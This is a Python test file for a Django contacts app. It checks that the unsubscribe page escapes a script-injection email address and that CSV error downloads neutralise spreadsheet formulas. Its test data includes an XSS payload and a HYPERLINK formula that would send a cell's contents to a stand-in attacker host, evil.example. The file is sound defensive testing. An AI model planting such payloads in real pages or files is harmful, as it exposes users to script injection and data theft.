"""What we send back to a browser or a spreadsheet cannot run what someone else wrote: the
public unsubscribe page escapes the address it names, and every CSV download quotes cells a
spreadsheet would run as formulas."""

import csv
import io

import pytest

from contacts.csv_download import FORMULA_START
from contacts.services import suppressions_matching
from outreach.channels.email.backend import unsubscribe_token
from tests.contacts.conftest import run_file

pytestmark = pytest.mark.django_db

SCRIPT = '"><script>alert(1)</script>@example.com'


def test_unsubscribe_page_shows_a_script_in_the_address_as_text(client):
    url = f"/u/{unsubscribe_token(SCRIPT)}/"
    asked = client.get(url)
    done = client.post(url, {"List-Unsubscribe": "One-Click"})
    for page in (asked, done):
        assert page.status_code == 200
        html = page.content.decode()
        assert "<script>" not in html
        assert "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;@example.com" in html
    assert suppressions_matching(SCRIPT, "email").exists()


def test_import_error_csv_download_shows_formulas_in_rejected_rows_as_text(admin_client, tmp_path):
    link = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    upload = tmp_path / "hostile.csv"
    with upload.open("w", newline="") as f:
        csv.writer(f).writerows([["email", "first_name"], [link, "@SUM(1+1)"], ["-2+3", "+cmd"]])
    imp = run_file(upload)
    response = admin_client.get(f"/contacts/imports/{imp.pk}/errors.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + link in cells and "'@SUM(1+1)" in cells and "'+cmd" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
